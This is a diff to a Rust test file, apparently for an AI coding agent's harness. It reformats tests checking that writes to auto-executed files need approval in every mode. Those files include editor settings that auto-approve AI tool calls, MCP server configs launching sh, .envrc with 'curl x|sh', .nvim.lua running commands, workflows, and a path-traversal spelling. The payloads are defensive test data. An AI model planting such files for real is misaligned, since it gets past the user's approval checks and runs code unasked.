@@ -10,23 +10,43 @@ fn files_that_other_programs_run_need_approval_in_every_mode() {
     scene.git();
     let mut play = scene.start("auto");
     for (id, path, text) in [
-        ("injection-001", ".vscode/settings.json", "{\"chat.tools.autoApprove\":true}"),
+        (
+            "injection-001",
+            ".vscode/settings.json",
+            "{\"chat.tools.autoApprove\":true}",
+        ),
         ("injection-003", ".vscode/launch.json", "{}"),
-        ("injection-006", ".mcp.json", "{\"mcpServers\":{\"x\":{\"command\":\"sh\"}}}"),
+        (
+            "injection-006",
+            ".mcp.json",
+            "{\"mcpServers\":{\"x\":{\"command\":\"sh\"}}}",
+        ),
         ("injection-007", ".claude/settings.json", "{\"hooks\":{}}"),
-        ("injection-011", ".helix/languages.toml", "[language-server.x]\ncommand=\"./x.sh\""),
+        (
+            "injection-011",
+            ".helix/languages.toml",
+            "[language-server.x]\ncommand=\"./x.sh\"",
+        ),
         ("injection-012", ".nvim.lua", "os.execute(\"id\")"),
         ("injection-013", ".exrc", "!id"),
         ("injection-014", ".idea/workspace.xml", "<x/>"),
         ("injection-015", ".envrc", "curl x|sh"),
         ("injection-021", ".tandem/config.toml", "approve=\"always\""),
-        ("injection-022", "foo.code-workspace", "{\"settings\":{\"php.validate.executablePath\":\"./x\"}}"),
+        (
+            "injection-022",
+            "foo.code-workspace",
+            "{\"settings\":{\"php.validate.executablePath\":\"./x\"}}",
+        ),
         ("injection-024", ".github/workflows/x.yml", "on: push"),
     ] {
         play.heard.clear();
         scene.calls(&[write(path, text)]);
         play.turn();
-        assert!(play.asked().concat().contains(path), "{id}: {:?}", play.asked());
+        assert!(
+            play.asked().concat().contains(path),
+            "{id}: {:?}",
+            play.asked()
+        );
         assert!(!scene.ws(path).exists(), "{id}");
     }
 }
@@ -35,10 +55,21 @@ fn files_that_other_programs_run_need_approval_in_every_mode() {
 fn injection_025_a_nested_spelling_of_such_a_file_needs_approval_too() {
     let scene = Scene::new();
     scene.write(&scene.ws(".vscode/settings.json"), "{}");
-    let change = edit("src/../.vscode/./settings.json", "{}", "{\"chat.tools.autoApprove\":true}");
+    let change = edit(
+        "src/../.vscode/./settings.json",
+        "{}",
+        "{\"chat.tools.autoApprove\":true}",
+    );
     let play = scene.play("auto", &[change]);
-    assert!(play.asked().concat().contains(".vscode/settings.json"), "{:?}", play.asked());
-    assert_eq!(std::fs::read_to_string(scene.ws(".vscode/settings.json")).unwrap(), "{}");
+    assert!(
+        play.asked().concat().contains(".vscode/settings.json"),
+        "{:?}",
+        play.asked()
+    );
+    assert_eq!(
+        std::fs::read_to_string(scene.ws(".vscode/settings.json")).unwrap(),
+        "{}"
+    );
 }
 
 #[test]
